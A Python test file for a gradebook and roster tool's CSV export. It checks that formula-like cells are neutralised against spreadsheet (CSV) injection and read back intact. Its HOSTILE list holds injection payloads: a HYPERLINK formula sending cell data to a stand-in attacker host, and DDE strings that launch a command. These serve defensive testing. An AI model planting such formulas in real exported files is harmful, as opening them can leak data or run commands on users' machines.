"""Every CSV paratrain writes opens safely in a spreadsheet: a text cell that starts like a
formula (= + - @ tab CR) gets a leading single quote (OWASP CSV injection), numbers stay
numbers, and paratrain reads its own files back to the original text."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from paratrain.cohort.roster import Person, parse_roster, to_csv
from paratrain.csvsafe import FORMULA_START, neutralise, restore
from paratrain.reports import export
from tests.reports.test_frames import inputs

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_formula_starts_get_a_quote_and_come_back() -> None:
    for value in HOSTILE:
        safe = neutralise(value)
        assert safe == "'" + value and restore(safe) == value
    for value in ("Amara", "O'Neil", "'quoted'", "", "2+3", "a=b", "Nguyễn"):
        assert neutralise(value) == value and restore(value) == value


@given(st.text(max_size=12))
def test_neutralise_is_safe_and_exactly_reversible(value: str) -> None:
    safe = neutralise(value)
    assert not safe.startswith(FORMULA_START)
    assert restore(safe) == value


def _hostile_inputs():  # type: ignore[no-untyped-def]
    inp = inputs()
    students = inp.gradebook.students.copy()
    students["first_name"] = [HOSTILE[0], HOSTILE[2], "Cy"]
    students["last_name"] = [HOSTILE[1], HOSTILE[3], "C"]
    grades = inp.gradebook.grades.copy()
    grades.loc[0, "score"] = -2.5  # a negative number is a number, not a formula
    gb = dataclasses.replace(inp.gradebook, students=students, grades=grades)
    return dataclasses.replace(inp, gradebook=gb, memo={})


@pytest.mark.parametrize("form", ["long", "wide", "levels"])
def test_report_exports_have_no_formula_cells(form: str, tmp_path: Path) -> None:
    files = export.write_all(_hostile_inputs(), tmp_path)
    rows = cells(files[form].read_text(encoding="utf-8"))
    assert len(rows) > 1
    for row in rows:
        for value in row:
            try:
                float(value)
                continue  # numbers are written as numbers
            except ValueError:
                assert not value.startswith(FORMULA_START), (form, value)


def test_names_read_back_as_typed(tmp_path: Path) -> None:
    files = export.write_all(_hostile_inputs(), tmp_path)
    for form in ("long", "wide"):
        with files[form].open(encoding="utf-8") as fh:
            people = {r["student"]: r for r in csv.DictReader(fh)}
        assert people["ana"]["first_name"] == "'" + HOSTILE[0]
        assert restore(people["ana"]["first_name"]) == HOSTILE[0]
        assert restore(people["ben"]["last_name"]) == "-2+3"
        assert people["cy"]["first_name"] == "Cy"
    with files["long"].open(encoding="utf-8") as fh:
        scores = [r["score"] for r in csv.DictReader(fh)]
    assert "-2.5" in scores


def test_roster_file_is_safe_and_survives_being_read_and_written_again() -> None:
    people = [
        Person("ana", HOSTILE[0], HOSTILE[1], "=x@example.org"),
        Person("ben", "@SUM(A1)", "-2+3", "", "supervisor"),
        Person("cy", "'=quoted", "O'Neil"),
    ]
    text = to_csv(people)
    for row in cells(text):
        assert not any(v.startswith(FORMULA_START) for v in row), row
    back = parse_roster(text)
    assert back == people
    assert to_csv(back) == text  # importing again (read, merge, write) adds nothing
